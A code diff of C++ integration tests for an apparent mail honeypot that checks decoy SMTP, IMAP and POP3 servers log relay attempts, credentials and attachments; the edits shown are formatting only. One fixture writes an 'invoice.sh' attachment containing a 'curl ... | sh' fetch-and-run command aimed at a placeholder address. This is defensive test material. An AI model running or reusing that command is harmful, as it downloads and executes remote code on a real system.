@@ -57,15 +57,18 @@ TEST(CliMail, SwaksIsCapturedRefusedAsARelayAndItsMailKept) {
                                  "127.207.10.10 --from spam@evil.example --to victim@example.net "
                                  "</dev/null 2>&1");
     EXPECT_THAT(refused, HasSubstr("554 5.7.1 <victim@example.net>: Relay access denied"));
-    const auto relayed = capture(swaks +
-                                 "127.207.10.11 --port 587 --from spam@evil.example --to "
-                                 "victim@example.net --header 'Subject: relay check' </dev/null 2>&1");
+    const auto relayed =
+        capture(swaks +
+                "127.207.10.11 --port 587 --from spam@evil.example --to "
+                "victim@example.net --header 'Subject: relay check' </dev/null 2>&1");
     EXPECT_THAT(relayed, HasSubstr("250 2.0.0 Ok: queued as "));
 
     // Mail for a local user, with an attachment: the message and the attachment are artifacts.
     write_file(dir + "/invoice.sh", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
-    const auto local = capture(swaks + "127.207.10.10 --from a@evil.example --to root@localhost "
-                                       "--attach @" + dir + "/invoice.sh </dev/null 2>&1");
+    const auto local = capture(swaks +
+                               "127.207.10.10 --from a@evil.example --to root@localhost "
+                               "--attach @" +
+                               dir + "/invoice.sh </dev/null 2>&1");
     EXPECT_THAT(local, HasSubstr("250 2.0.0 Ok: queued as "));
     const auto sha = capture("sha256sum " + dir + "/invoice.sh | cut -c1-64");
     ASSERT_EQ(sha.size(), 65u);
@@ -77,12 +80,16 @@ TEST(CliMail, SwaksIsCapturedRefusedAsARelayAndItsMailKept) {
     EXPECT_EQ(up.stop(), 0) << up.err();
 
     const auto auths = joined(stored_fields(*repo, "decky:mx event:auth_attempt"));
-    EXPECT_THAT(auths, HasSubstr(R"("username":"u","password":"p","credential_type":"cleartext","mechanism":"LOGIN","tls":"True","status":"failed")"));
+    EXPECT_THAT(
+        auths,
+        HasSubstr(
+            R"("username":"u","password":"p","credential_type":"cleartext","mechanism":"LOGIN","tls":"True","status":"failed")"));
     EXPECT_THAT(auths, HasSubstr(R"("username":"admin","password":"S3cret!")"));
     EXPECT_THAT(joined(stored_fields(*repo, "decky:mx event:rcpt_denied")),
                 HasSubstr(R"("value":"victim@example.net","reason":"relay")"));
     const auto relay = joined(stored_fields(*repo, "decky:relay event:message_accepted"));
-    EXPECT_THAT(relay, HasSubstr(R"("mail_from":"spam@evil.example","rcpt_to":"victim@example.net")"));
+    EXPECT_THAT(relay,
+                HasSubstr(R"("mail_from":"spam@evil.example","rcpt_to":"victim@example.net")"));
     EXPECT_THAT(relay, HasSubstr(R"("subject":"relay check")"));
     EXPECT_THAT(relay, HasSubstr(R"("stored":"True")"));
     EXPECT_THAT(relay, HasSubstr(R"("relay_test":"True")"));
@@ -126,7 +133,8 @@ TEST(CliMail, CurlListsAndFetchesBaitOverImapAndPop3) {
     EXPECT_THAT(capture("timeout 20 curl -s pop3://127.207.20.10/ -u carol:wrong 2>&1; echo rc=$?"),
                 HasSubstr("rc=67"));
     const auto list = capture("timeout 20 curl -s pop3://127.207.20.10/ -u carol:Passw0rd");
-    EXPECT_THAT(list, ContainsRegex("^1 [0-9]+\r\n2 [0-9]+\r\n3 [0-9]+\r\n4 [0-9]+\r\n5 [0-9]+\r\n$"));
+    EXPECT_THAT(list,
+                ContainsRegex("^1 [0-9]+\r\n2 [0-9]+\r\n3 [0-9]+\r\n4 [0-9]+\r\n5 [0-9]+\r\n$"));
     EXPECT_THAT(capture("timeout 20 curl -s pop3://127.207.20.10/2 -u carol:Passw0rd"),
                 HasSubstr("Username: carol"));
     EXPECT_THAT(capture("timeout 20 curl -sk pop3s://127.207.20.10/3 -u carol:Passw0rd"),
@@ -150,14 +158,14 @@ TEST(CliMail, CurlListsAndFetchesBaitOverImapAndPop3) {
 
 TEST(CliMail, NmapNamesThePersonaProductsOnEveryMailPort) {
     const auto dir = make_temp_dir();
-    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "smtp,imap,pop3",
-                          "--distro", "debian", "--subnet", "127.207.30.0/24", "--db",
-                          dir + "/n.db", "--state-dir", dir},
-                         dir);
+    BackgroundProcess up(
+        {DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "smtp,imap,pop3", "--distro",
+         "debian", "--subnet", "127.207.30.0/24", "--db", dir + "/n.db", "--state-dir", dir},
+        dir);
     ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.207.30.1:993/tcp")) << up.err();
     for (int run = 1; run <= 2; ++run) {
-        const auto scan = capture(
-            "timeout 150 nmap -n -sV -Pn -p 25,110,143,587,993,995,465 127.207.30.1 2>&1");
+        const auto scan =
+            capture("timeout 150 nmap -n -sV -Pn -p 25,110,143,587,993,995,465 127.207.30.1 2>&1");
         EXPECT_THAT(scan, ContainsRegex("25/tcp +open +smtp +Postfix smtpd")) << scan;
         EXPECT_THAT(scan, ContainsRegex("587/tcp +open +smtp +Postfix smtpd")) << scan;
         EXPECT_THAT(scan, ContainsRegex("465/tcp +open +ssl/smtp +Postfix smtpd")) << scan;
